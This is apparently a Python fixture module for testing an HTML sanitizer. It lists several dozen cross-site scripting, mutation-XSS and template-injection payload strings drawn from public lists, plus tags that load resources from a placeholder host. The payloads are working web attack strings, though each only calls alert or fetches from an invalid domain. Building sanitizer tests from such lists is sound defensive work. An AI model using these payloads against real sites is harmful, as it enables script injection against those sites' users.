"""Texts by which markup gets out of where it is written: known tricks of escaping, parsing and mutation (mXSS).

From the public lists of OWASP, PortSwigger and DOMPurify's tests. Each calls alert or loads from `ELSEWHERE`.
"""

from __future__ import annotations

ELSEWHERE = "https://elsewhere.invalid"
LIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script>parent.alert(1)&lt;/script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<style onload=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<table><td><img src=x onerror=alert(1)>",
    "<select><option></select><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\t>",
    "<img\fsrc=x\fonerror=alert(1)>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'>",
    f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    f"<link rel=preload as=image href={ELSEWHERE}/p.png>",
    f"<img src={ELSEWHERE}/t.gif>",
    f"<img srcset='{ELSEWHERE}/t.gif 1x'>",
    f"<picture><source srcset={ELSEWHERE}/t.gif><img></picture>",
    f"<video poster={ELSEWHERE}/v.png></video>",
    f"<audio src={ELSEWHERE}/a.wav></audio>",
    f"<table background={ELSEWHERE}/b.gif><td>x</table>",
    f"<style>@import url({ELSEWHERE}/i.css);</style>",
    f"<p style='background:url({ELSEWHERE}/u.png)'>x</p>",
    f"<svg><image href={ELSEWHERE}/i.svg width=9 height=9 /></svg>",
    f"<base href={ELSEWHERE}/><img src=b.png>",
)
"""Tricks that do something where a page holds them as they are."""
ELSEWHERE_LIVE = (
    "' autofocus onfocus='alert(1)",
    '" onload="alert(1)" x="',
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{{ ''.__class__.__mro__ }}{% raw %}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\x1b[2J<\x01img src=x onerror=alert(1)>",
    "\u2028<script>alert(1)</script>\u2029",
    '../../"><img src=x onerror=alert(1)>.wav',
    "@@SCRIPT@@@@STYLE@@",
)
"""Those that need another place than plain text: an attribute, an address, a template, a second decoding."""
TRICKS = LIVE + ELSEWHERE_LIVE
